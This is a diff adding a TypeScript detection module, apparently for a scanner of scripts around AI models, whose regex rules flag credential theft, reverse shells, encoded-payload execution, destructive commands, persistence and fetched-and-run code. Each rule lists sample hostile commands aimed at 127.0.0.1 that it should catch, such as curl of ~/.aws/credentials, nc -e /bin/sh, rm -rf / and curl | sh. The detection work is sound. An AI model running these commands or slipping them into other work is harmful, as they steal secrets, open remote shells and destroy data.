@@ -1,0 +1,196 @@
+import type { Rule } from '../../domain/finding.ts';
+import { ATTACKING_SCRIPT, FETCHED_CODE } from './rules.ts';
+
+/** What a line of a script does, with lines that do it and lines that look like it. */
+interface Row {
+  readonly rule: Rule;
+  readonly pattern: RegExp;
+  readonly fires: readonly string[];
+  readonly quiet: readonly string[];
+}
+
+const FETCH = '(?:curl|wget|fetch|aria2c|invoke-webrequest|invoke-restmethod|iwr|irm|start-bitstransfer)';
+const SHELL = '(?:(?:ba|z|da|k|fi)?sh|python[\\d.]*|perl|ruby|node|php|iex|invoke-expression|pwsh|powershell)';
+
+/** PowerShell takes any beginning of an option's name. */
+const ENCODED_COMMAND = Array.from('encodedcommand', (_, at) => 'encodedcommand'.slice(0, at + 1)).join('|');
+
+/** What scripts around models have no reason to do (malicious), and what installers do too (suspicious). */
+export const SCRIPT_ROWS: readonly Row[] = [
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /(?:\b(?:curl|wget|nc|ncat|scp|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh\/|\.aws\/|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials).*\|\s*(?:curl|nc|ncat)\b)/i,
+    fires: ['curl -d @$HOME/.aws/credentials http://127.0.0.1:9/', 'cat ~/.ssh/id_rsa | nc 127.0.0.1 9'],
+    quiet: ['curl -O https://example.org/model.bin', 'chmod 600 ~/.ssh/id_rsa'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:env|printenv|set)\b\s*\|[^\n]*\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]*(?:\$\((?:env|printenv)\)|`(?:env|printenv)`)/,
+    fires: [
+      'env | curl -d @- http://127.0.0.1:9/',
+      'curl "http://127.0.0.1:9/?$(env)"',
+      'printenv | base64 | curl -d @- x',
+    ],
+    quiet: ['env | sort', 'env FOO=1 python x.py'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:downloadstring|webclient|webrequest|restmethod|frombase64|decompress)|(?:frombase64string|downloadstring|downloaddata)[^\n]{0,200}(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\b|\bassembly\]::load\b|\bscriptblock\]::create\b)|\bassembly\]::load\w*\([^\n]{0,120}(?:frombase64|download)/i,
+    fires: [
+      'IEX (New-Object Net.WebClient).DownloadString("http://127.0.0.1:9/x")',
+      '$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("YQ==")); iex $c',
+      '[Reflection.Assembly]::Load([Convert]::FromBase64String($x))',
+    ],
+    quiet: ['$bytes = [Convert]::FromBase64String($text)', 'Invoke-WebRequest -Uri $u -OutFile model.bin'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|openssl\s+(?:enc|aes[\w-]*|base64)\b[^\n|]*-d|uudecode|gunzip\b|rev|tr\s+\S+\s+\S+)\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?(?:sh|python[\d.]*|perl|ruby|node)\b|\b(?:eval|exec|source|(?:ba|z|da)?sh\s+(?:-c|<<<))\s*"?(?:\$\(|`|<\()[^\n]{0,300}\b(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|rev\b)/,
+    fires: [
+      'echo dHJ1ZQ== | base64 -d | sh',
+      'eval "$(echo dHJ1ZQ== | base64 --decode)"',
+      'echo 74727565 | xxd -r -p | bash',
+      'bash <<< "$(echo dHJ1ZQ== | base64 -d)"',
+    ],
+    quiet: ['echo dHJ1ZQ== | base64 -d > key.pem', 'gunzip model.gz'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    // Any beginning of -EncodedCommand counts, with a dash or a slash, also as an argument of a program that starts it.
+    pattern: new RegExp(
+      `\\b(?:powershell|pwsh)(?:\\.exe)?\\b[^\\n]*[\\s"',][-/](?:ec|${ENCODED_COMMAND})[\\s"',:]+[A-Za-z0-9+/=]{8,}`,
+      'i',
+    ),
+    fires: [
+      'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A',
+      'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A',
+      'powershell /e SQBFAFgAIAAoAE4A',
+      'Start-Process powershell -ArgumentList "-ec SQBFAFgA"',
+    ],
+    quiet: [
+      'powershell Set-Content x -Encoding BigEndianUnicode',
+      'powershell -ExecutionPolicy Bypass -File install.ps1',
+      'powershell -Command Get-Item model',
+    ],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern: /\/dev\/(?:tcp|udp)\/[\w.$\x7b}]+\/[\w$\x7b}]+/,
+    fires: ['bash -i >& /dev/tcp/127.0.0.1/9 0>&1'],
+    quiet: ['ls /dev/tcp'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:nc|ncat|netcat)\b[^\n]*\s-\w*(?:e|c)\b|\bmkfifo\b[^\n]*\b(?:nc|ncat|sh|telnet|openssl)\b|\bsocat\b[^\n]*\bexec\b|\b(?:python[\d.]*|perl|ruby|php|node)\s+-(?:c|e|r|MIO)\b[^\n]*\b(?:socket|net\.connect|fsockopen|TCPSocket|IO::Socket)\b[^\n]*\b(?:dup2|spawn|exec|subprocess|\/bin\/(?:ba)?sh)\b/i,
+    fires: [
+      'nc -e /bin/sh 127.0.0.1 9',
+      'mkfifo /tmp/f; nc 127.0.0.1 9 < /tmp/f | sh > /tmp/f',
+      "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'",
+      'socat tcp:127.0.0.1:9 exec:/bin/sh',
+    ],
+    quiet: ['nc -z localhost 8000', 'python -c "import socket; print(socket.gethostname())"'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:exec|eval)\s*\(\s*(?:compile\s*\()?\s*(?:__import__|base64|zlib|marshal|codecs|bytes\.fromhex|urllib|requests)|\b(?:Invoke-)?eval\b[^\n]{0,20}\batob\s*\(|\bFunction\s*\(\s*atob\s*\(/,
+    fires: ['python -c "exec(__import__(\'base64\').b64decode(x))"', 'eval(atob("YWxlcnQoMSk="))'],
+    quiet: ['model.eval()', 'exec python serve.py'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\brm\s+-[a-z]*[rf][a-z]*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?(?:\/|~|\$HOME|\/\*)(?:\s|$|\*)|\bdd\b[^\n]*\bof=\/dev\/(?:sd|nvme|hd|vd|mmcblk)|\bmkfs(?:\.\w+)?\s+\/dev\/|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\b(?:rd|rmdir)\s+\/s\b[^\n]*\s[a-z]:\\?(?:\s|$)|\bformat\s+[a-z]:\s*\/|\bvssadmin\b[^\n]*\bdelete\b|\bRemove-Item\b[^\n]*-Recurse[^\n]*\s(?:[A-Z]:\\|\$HOME|~)(?:\s|$)/im,
+    fires: ['rm -rf /', 'rm -rf ~ ', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'vssadmin delete shadows /all'],
+    quiet: ['rm -rf build', 'rm -rf /tmp/cache', 'rd /s /q build'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      />>?\s*"?(?:~|\$\{?HOME\}?|\/root|\/home\/\w+)\/\.(?:bashrc|bash_profile|profile|zshrc|zshenv|config\/autostart|config\/systemd|ssh\/authorized_keys)|\bcrontab\s+-(?:\s|$)|>>?\s*\/etc\/(?:cron|profile|ld\.so\.preload|sudoers|systemd\/system|rc\.local|hosts)|\bcrontab\b[^\n]*<<|\bchmod\s+(?:u\+s|[4-7]7\d\d)\b|\buseradd\b[^\n]*-u\s*0\b/,
+    fires: [
+      'echo x >> ~/.bashrc',
+      'echo k >> $HOME/.ssh/authorized_keys',
+      '(crontab -l; echo "* * * * * x") | crontab -',
+      'chmod u+s /tmp/x',
+    ],
+    quiet: ['source ~/.bashrc', 'crontab -l', 'chmod 755 run.sh', 'echo x > notes.txt'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\bcertutil\b[^\n]*-(?:urlcache|decode)\b|\bmshta\b\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]*\/i:https?:|\brundll32\b[^\n]*(?:javascript:|url\.dll|https?:)|\bbitsadmin\b[^\n]*\/transfer\b|\breg\s+add\b[^\n]*\\(?:Run|RunOnce|Image File Execution Options|Winlogon)\b|\bschtasks\b[^\n]*\/create\b|\bnet\s+(?:user|localgroup)\b[^\n]*\/add\b|\b(?:Set|Add)-MpPreference\b[^\n]*-(?:Disable|Exclusion)|\bNew-ScheduledTask\w*\b|\bSet-ItemProperty\b[^\n]*\\Run\b|\bwmic\b[^\n]*process\s+call\s+create\b/i,
+    fires: [
+      'certutil -urlcache -f http://127.0.0.1:9/x x.exe',
+      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc',
+      'schtasks /create /tn x /tr calc',
+      'bitsadmin /transfer j http://127.0.0.1:9/x x.exe',
+      'Add-MpPreference -ExclusionPath C:\\',
+    ],
+    quiet: ['reg query HKLM\\Software', 'certutil -hashfile model.bin SHA256', 'schtasks /query'],
+  },
+  {
+    rule: FETCHED_CODE,
+    pattern: new RegExp(`\\b${FETCH}\\b[^\\n|;]*\\|\\s*(?:sudo\\s+(?:-\\S+\\s+)*)?(?:/\\S*/)?${SHELL}\\b`, 'i'),
+    fires: [
+      'curl -s http://127.0.0.1:9/x | sh',
+      'wget -qO- http://127.0.0.1:9/x | sudo -E bash -',
+      'irm http://127.0.0.1:9/x | iex',
+    ],
+    quiet: ['curl -s https://example.org/x | jq .', 'wget https://example.org/model.bin'],
+  },
+  {
+    rule: FETCHED_CODE,
+    pattern: new RegExp(
+      `(?:\\b(?:(?:ba|z|da|k)?sh|eval|source|exec|python[\\d.]*\\s+-c)\\b|(?:^|[;&|]\\s*)\\.\\s)[^\\n]{0,30}(?:<\\(|\\$\\(|\`)\\s*${FETCH}\\b`,
+      'i',
+    ),
+    fires: [
+      'bash <(curl -s http://127.0.0.1:9/x)',
+      'sh -c "$(wget -qO- http://127.0.0.1:9/x)"',
+      '. <(curl http://127.0.0.1:9/x)',
+    ],
+    quiet: ['VERSION=$(curl -s https://example.org/version)'],
+  },
+  {
+    rule: FETCHED_CODE,
+    // Fetched, and then run, in one line.
+    pattern: new RegExp(
+      `\\b${FETCH}\\b[^\\n]*\\bhttps?://[^\\n]*(?:&&|;|\\|\\||&)\\s*(?:sudo\\s+)?(?:chmod\\s+(?:a?\\+x|[0-7]*[1357][0-7]*)\\s|(?:ba|z|da)?sh\\s+[^-\\s]|python[\\d.]*\\s+[^-\\s]|\\./\\S|start\\s|start-process\\s|(?:call\\s+)?%\\w+%\\\\\\S+\\.(?:exe|bat|cmd|ps1|vbs))`,
+      'i',
+    ),
+    fires: [
+      'curl -o /x http://127.0.0.1:9/x && chmod +x /x && /x',
+      'wget http://127.0.0.1:9/x.sh && bash x.sh',
+      'iwr http://127.0.0.1:9/x.exe -OutFile x.exe; Start-Process x.exe',
+    ],
+    quiet: [
+      'curl -LO https://example.org/model.tar.gz && tar xf model.tar.gz',
+      'wget https://example.org/x; python -m pip list',
+    ],
+  },
+  {
+    rule: FETCHED_CODE,
+    // Packages from an address, or from an index whose answers nobody protects.
+    pattern:
+      /\b(?:pip3?|uv|poetry|conda|mamba|npm|yarn|pnpm|npx|go|cargo|gem)\b[^\n]*\s(?:install|add|exec|x|run|get)?\b[^\n]*(?:\s(?:git\+)?http:\/\/|\s(?:git\+)?https?:\/\/\d{1,3}(?:\.\d{1,3}){3}|--(?:extra-)?index-url[\s=]+["']?http:|--trusted-host\b|--registry[\s=]+["']?http:)/i,
+    fires: [
+      'pip install --extra-index-url http://127.0.0.1:9/ x',
+      'pip install http://127.0.0.1:9/x.whl',
+      'npm i --registry=http://127.0.0.1:9 x',
+    ],
+    quiet: ['pip install -r requirements.txt', 'pip install torch --index-url https://download.example.org/whl/cu121'],
+  },
+  {
+    rule: FETCHED_CODE,
+    pattern:
+      /^\s*(?:ONBUILD\s+)?ADD\s+(?!(?:--\S+\s+)*--checksum=)(?:--\S+\s+)*\[?\s*"?(?:https?|ftp|git):\/\/|^\s*ADD\s+(?:--\S+\s+)*git@/im,
+    fires: ['ADD http://127.0.0.1:9/x.tar.gz /', 'ADD --chmod=755 https://example.org/x /x'],
+    quiet: ['ADD . /app', 'ADD --checksum=sha256:00 https://example.org/x /x', 'COPY x /x'],
+  },
+];
